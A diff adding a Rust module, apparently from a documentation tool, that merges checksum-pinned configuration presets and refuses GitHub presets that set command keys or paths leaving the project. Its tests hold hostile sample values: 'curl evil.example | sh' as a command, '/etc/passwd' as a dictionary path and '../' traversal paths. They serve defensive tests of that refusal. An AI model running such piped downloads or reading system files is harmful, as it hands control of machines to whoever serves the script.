@@ -0,0 +1,446 @@
+//! Shareable configuration presets.
+//!
+//! A config's top-level `extends` list names presets it inherits settings
+//! from. Presets apply in order, then the config itself: tables merge key by
+//! key and any other value replaces the one before it.
+//!
+//! ```toml
+//! extends = [
+//!     "pave:recommended",
+//!     "github:acme/pave-rules@v1#sha256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+//! ]
+//! ```
+//!
+//! - `pave:<name>` is a preset built into pave: `recommended` or `strict`.
+//! - `github:<owner>/<repo>[/<path>]@<ref>#sha256=<hex>` is the TOML file at
+//!   `<path>` (default `pave-preset.toml`) in a GitHub repository at a tag,
+//!   branch, or commit. The checksum pin is required: a preset that doesn't
+//!   match is refused. It is fetched with `curl` once and cached under
+//!   `.pave/presets/` by its checksum, so changing the pin fetches it again.
+//!
+//! Whoever controls a GitHub preset's repository doesn't control the
+//! machines that use it, so a GitHub preset may only set [`REMOTE_TABLES`],
+//! never a key in [`EXECUTABLE_KEYS`], and only relative paths inside the
+//! project for [`PATH_KEYS`].
+
+use anyhow::{Context, Result, bail};
+use sha2::{Digest, Sha256};
+use std::fs;
+use std::path::{Component, Path, PathBuf};
+use std::process::Command;
+use toml::{Table, Value};
+
+/// Prefix of presets built into pave.
+pub const BUILTIN_PREFIX: &str = "pave:";
+
+/// Prefix of presets fetched from GitHub.
+pub const GITHUB_PREFIX: &str = "github:";
+
+/// File a GitHub preset is read from when the spec names no path.
+pub const DEFAULT_PRESET_FILE: &str = "pave-preset.toml";
+
+/// Directory, relative to the config file, where fetched presets are cached.
+pub const PRESET_CACHE_DIR: &str = ".pave/presets";
+
+/// Tables a GitHub preset may set.
+pub const REMOTE_TABLES: &[&str] = &["rules", "lint", "docs"];
+
+/// Keys in [`REMOTE_TABLES`] a GitHub preset may not set: commands pave runs
+/// and switches that let verification run more.
+pub const EXECUTABLE_KEYS: &[(&str, &str)] = &[
+    ("lint", "mermaid_cmd"),
+    ("lint", "help_cmds"),
+    ("rules", "suspicious_commands"),
+];
+
+/// Keys in [`REMOTE_TABLES`] whose values are paths, or lists of paths,
+/// relative to the config.
+pub const PATH_KEYS: &[(&str, &str)] = &[
+    ("docs", "root"),
+    ("docs", "templates"),
+    ("lint", "spelling_dictionaries"),
+];
+
+/// The `pave:recommended` preset.
+const RECOMMENDED: &str = r#"
+[rules]
+max_lines = 300
+require_verification = true
+require_examples = true
+validate_paths = true
+duplicate_titles = "warning"
+review_overdue = "warning"
+require_owner = "warning"
+"#;
+
+/// The `pave:strict` preset.
+const STRICT: &str = r#"
+[rules]
+max_lines = 300
+require_verification = true
+require_examples = true
+validate_paths = true
+warn_empty_paths = true
+strict_parse = true
+strict_output_matching = true
+duplicate_titles = "error"
+review_overdue = "error"
+require_owner = "error"
+"#;
+
+/// Presets built into pave, by name.
+const BUILTIN_PRESETS: &[(&str, &str)] = &[("recommended", RECOMMENDED), ("strict", STRICT)];
+
+/// A preset in a GitHub repository.
+#[derive(Debug, PartialEq)]
+struct GithubPreset {
+    owner: String,
+    repo: String,
+    path: String,
+    reference: String,
+    sha256: String,
+}
+
+impl GithubPreset {
+    /// Parse `<owner>/<repo>[/<path>]@<ref>#sha256=<hex>`, the part of a
+    /// spec after [`GITHUB_PREFIX`].
+    fn parse(spec: &str) -> Result<Self> {
+        let usage = || {
+            format!(
+                "Invalid preset '{}{}': expected {}<owner>/<repo>[/<path>]@<ref>#sha256=<hex>",
+                GITHUB_PREFIX, spec, GITHUB_PREFIX
+            )
+        };
+        let Some((location, pin)) = spec.split_once('#') else {
+            bail!("{}: GitHub presets must be pinned to a checksum", usage());
+        };
+        let Some(hex) = pin.strip_prefix("sha256=") else {
+            bail!(usage());
+        };
+        if hex.len() != 64 || !hex.chars().all(|c| c.is_ascii_hexdigit()) {
+            bail!("{}: the sha256 pin must be 64 hex digits", usage());
+        }
+        let sha256 = hex.to_ascii_lowercase();
+        let Some((repo_path, reference)) = location.rsplit_once('@') else {
+            bail!(usage());
+        };
+        let mut parts = repo_path.splitn(3, '/');
+        let (Some(owner), Some(repo)) = (parts.next(), parts.next()) else {
+            bail!(usage());
+        };
+        let path = parts.next().unwrap_or(DEFAULT_PRESET_FILE);
+        if [owner, repo, path, reference]
+            .iter()
+            .any(|part| part.is_empty())
+        {
+            bail!(usage());
+        }
+        Ok(Self {
+            owner: owner.to_string(),
+            repo: repo.to_string(),
+            path: path.to_string(),
+            reference: reference.to_string(),
+            sha256,
+        })
+    }
+
+    fn url(&self) -> String {
+        format!(
+            "https://raw.githubusercontent.com/{}/{}/{}/{}",
+            self.owner, self.repo, self.reference, self.path
+        )
+    }
+
+    /// Cache file for this preset, keyed by its pin.
+    fn cache_path(&self, config_dir: &Path) -> PathBuf {
+        config_dir
+            .join(PRESET_CACHE_DIR)
+            .join(format!("{}.toml", self.sha256))
+    }
+
+    /// Whether `content` matches the pin.
+    fn matches(&self, content: &str) -> bool {
+        self.sha256 == sha256_hex(content.as_bytes())
+    }
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{:02x}", b))
+        .collect()
+}
+
+/// Apply the presets named in `config`'s `extends` to it. Fetched presets
+/// are cached relative to `config_dir`. A config without `extends` is
+/// returned as is.
+pub fn resolve(config: Table, config_dir: &Path) -> Result<Table> {
+    let Some(extends) = config.get("extends") else {
+        return Ok(config);
+    };
+    let Some(specs) = extends.as_array() else {
+        bail!("extends must be an array of preset names");
+    };
+
+    let mut merged = Table::new();
+    for spec in specs {
+        let Some(spec) = spec.as_str() else {
+            bail!("extends must be an array of preset names");
+        };
+        let preset = load(spec, config_dir)?;
+        if preset.contains_key("extends") {
+            bail!("Preset '{}' can't itself extend other presets", spec);
+        }
+        merge(&mut merged, preset);
+    }
+    merge(&mut merged, config);
+    Ok(merged)
+}
+
+/// Merge `overlay` into `base`, table by table.
+fn merge(base: &mut Table, overlay: Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(Value::Table(base)), Value::Table(overlay)) => merge(base, overlay),
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+/// Load the preset `spec`.
+fn load(spec: &str, config_dir: &Path) -> Result<Table> {
+    let content = if let Some(name) = spec.strip_prefix(BUILTIN_PREFIX) {
+        let Some((_, content)) = BUILTIN_PRESETS.iter().find(|(builtin, _)| *builtin == name)
+        else {
+            let names: Vec<String> = BUILTIN_PRESETS
+                .iter()
+                .map(|(name, _)| format!("{}{}", BUILTIN_PREFIX, name))
+                .collect();
+            bail!(
+                "Unknown preset '{}': built-in presets are {}",
+                spec,
+                names.join(", ")
+            );
+        };
+        content.to_string()
+    } else if let Some(rest) = spec.strip_prefix(GITHUB_PREFIX) {
+        let content = fetch_cached(&GithubPreset::parse(rest)?, spec, config_dir)?;
+        let table: Table = content
+            .parse()
+            .with_context(|| format!("Preset '{}' is not valid TOML", spec))?;
+        check_remote(&table, spec)?;
+        return Ok(table);
+    } else {
+        bail!(
+            "Unknown preset '{}': use {}<name> or {}<owner>/<repo>@<ref>#sha256=<hex>",
+            spec,
+            BUILTIN_PREFIX,
+            GITHUB_PREFIX
+        );
+    };
+    content
+        .parse()
+        .with_context(|| format!("Preset '{}' is not valid TOML", spec))
+}
+
+/// Refuse a GitHub preset that sets anything outside [`REMOTE_TABLES`], any
+/// of the [`EXECUTABLE_KEYS`], or a [`PATH_KEYS`] path that leaves the
+/// project.
+fn check_remote(preset: &Table, spec: &str) -> Result<()> {
+    for (key, value) in preset {
+        if !REMOTE_TABLES.contains(&key.as_str()) {
+            bail!(
+                "Preset '{}' sets '{}', but GitHub presets may only set {}",
+                spec,
+                key,
+                REMOTE_TABLES
+                    .iter()
+                    .map(|table| format!("[{}]", table))
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            );
+        }
+        let Some(table) = value.as_table() else {
+            bail!("Preset '{}' sets '{}', which must be a table", spec, key);
+        };
+        for (section, name) in EXECUTABLE_KEYS {
+            if key == section && table.contains_key(*name) {
+                bail!(
+                    "Preset '{}' sets '{}.{}', which only the project's own config may set",
+                    spec,
+                    section,
+                    name
+                );
+            }
+        }
+        for (section, name) in PATH_KEYS {
+            let Some(value) = table.get(*name).filter(|_| key == section) else {
+                continue;
+            };
+            let paths = match value {
+                Value::Array(values) => values.iter().collect(),
+                value => vec![value],
+            };
+            for path in paths.into_iter().filter_map(Value::as_str) {
+                if !stays_inside(Path::new(path)) {
+                    bail!(
+                        "Preset '{}' sets '{}.{}' to '{}', but GitHub presets may only use \
+                         relative paths inside the project",
+                        spec,
+                        section,
+                        name,
+                        path
+                    );
+                }
+            }
+        }
+    }
+    Ok(())
+}
+
+/// Whether `path` is relative and never climbs above where it starts.
+fn stays_inside(path: &Path) -> bool {
+    path.components()
+        .all(|component| matches!(component, Component::Normal(_) | Component::CurDir))
+}
+
+/// The content of a GitHub preset, from the cache when it holds a copy that
+/// matches the pin.
+fn fetch_cached(preset: &GithubPreset, spec: &str, config_dir: &Path) -> Result<String> {
+    let cache_path = preset.cache_path(config_dir);
+    if let Ok(content) = fs::read_to_string(&cache_path)
+        && preset.matches(&content)
+    {
+        return Ok(content);
+    }
+
+    let url = preset.url();
+    let output = Command::new("curl")
+        .args(["--silent", "--show-error", "--fail", "--location"])
+        .args(["--max-time", "30", &url])
+        .output()
+        .context("Failed to run curl to fetch a preset")?;
+    if !output.status.success() {
+        bail!(
+            "Failed to fetch preset '{}' from {}: {}",
+            spec,
+            url,
+            String::from_utf8_lossy(&output.stderr).trim()
+        );
+    }
+    let content = String::from_utf8(output.stdout)
+        .with_context(|| format!("Preset '{}' is not UTF-8", spec))?;
+    if !preset.matches(&content) {
+        bail!(
+            "Preset '{}' doesn't match its pin: {} has sha256 {}",
+            spec,
+            url,
+            sha256_hex(content.as_bytes())
+        );
+    }
+
+    if let Some(parent) = cache_path.parent() {
+        fs::create_dir_all(parent)
+            .with_context(|| format!("Failed to create directory: {}", parent.display()))?;
+    }
+    fs::write(&cache_path, &content)
+        .with_context(|| format!("Failed to write preset cache: {}", cache_path.display()))?;
+    Ok(content)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    #[test]
+    fn applies_presets_in_order_then_the_config() {
+        let temp_dir = TempDir::new().unwrap();
+        let zeros = "0".repeat(64);
+        let preset =
+            GithubPreset::parse(&format!("acme/rules/presets/docs.toml@v1#sha256={}", zeros))
+                .unwrap();
+        assert_eq!(preset.path, "presets/docs.toml");
+        assert_eq!(
+            preset.url(),
+            "https://raw.githubusercontent.com/acme/rules/v1/presets/docs.toml"
+        );
+        // Seed the cache so nothing is fetched
+        let remote = "[rules]\nmax_lines = 150\n\n[lint]\ndisable = [\"passive-voice\"]\n";
+        let spec = seed_cache(temp_dir.path(), remote);
+
+        let config: Table = format!(
+            "extends = [\"pave:recommended\", \"{}\"]\n[rules]\nrequire_examples = false\n",
+            spec
+        )
+        .parse()
+        .unwrap();
+        let merged = resolve(config, temp_dir.path()).unwrap();
+        let rules = merged["rules"].as_table().unwrap();
+        assert_eq!(rules["max_lines"].as_integer(), Some(150));
+        assert_eq!(rules["require_verification"].as_bool(), Some(true));
+        assert_eq!(rules["require_examples"].as_bool(), Some(false));
+        assert_eq!(
+            merged["lint"]["disable"].as_array().unwrap()[0].as_str(),
+            Some("passive-voice")
+        );
+
+        // A cached copy that doesn't match the pin isn't used
+        assert!(!preset.matches(remote));
+
+        // GitHub presets must be pinned
+        for spec in [
+            "pave:lenient",
+            "gitlab:acme/rules@v1",
+            "github:acme@v1",
+            "github:acme/rules@v1",
+        ] {
+            let config: Table = format!("extends = [\"{}\"]", spec).parse().unwrap();
+            assert!(resolve(config, temp_dir.path()).is_err(), "{}", spec);
+        }
+    }
+
+    #[test]
+    fn github_presets_may_only_set_rules_lint_and_docs() {
+        let temp_dir = TempDir::new().unwrap();
+        for remote in [
+            "[plugins]\nlinkcheck = \"plugins/linkcheck.wasm\"\n",
+            "[verify]\ndefault_cmd = \"curl evil.example | sh\"\n",
+            "[lint]\nmermaid_cmd = \"sh -c 'curl evil.example | sh'\"\n",
+            "[rules]\nsuspicious_commands = \"off\"\n",
+            "[docs]\nroot = \"/\"\n",
+            "[docs]\nroot = \"docs\"\ntemplates = \"../../templates\"\n",
+            "[lint]\nspelling_dictionaries = [\"words.txt\", \"/etc/passwd\"]\n",
+            "max_lines = 100\n",
+        ] {
+            let spec = seed_cache(temp_dir.path(), remote);
+            let config: Table = format!("extends = [\"{}\"]", spec).parse().unwrap();
+            assert!(resolve(config, temp_dir.path()).is_err(), "{}", remote);
+        }
+    }
+
+    #[test]
+    fn github_presets_may_set_paths_inside_the_project() {
+        let temp_dir = TempDir::new().unwrap();
+        let spec = seed_cache(
+            temp_dir.path(),
+            "[docs]\nroot = \"./documentation\"\n\n\
+             [lint]\nspelling_dictionaries = [\"words.txt\"]\n",
+        );
+        let config: Table = format!("extends = [\"{}\"]", spec).parse().unwrap();
+        let merged = resolve(config, temp_dir.path()).unwrap();
+        assert_eq!(merged["docs"]["root"].as_str(), Some("./documentation"));
+    }
+
+    /// Cache `remote` as a GitHub preset and return a spec pinned to it.
+    fn seed_cache(config_dir: &Path, remote: &str) -> String {
+        let pin = sha256_hex(remote.as_bytes());
+        let spec = format!("acme/rules@v1#sha256={}", pin);
+        let cache_path = GithubPreset::parse(&spec).unwrap().cache_path(config_dir);
+        fs::create_dir_all(cache_path.parent().unwrap()).unwrap();
+        fs::write(&cache_path, remote).unwrap();
+        format!("{}{}", GITHUB_PREFIX, spec)
+    }
+}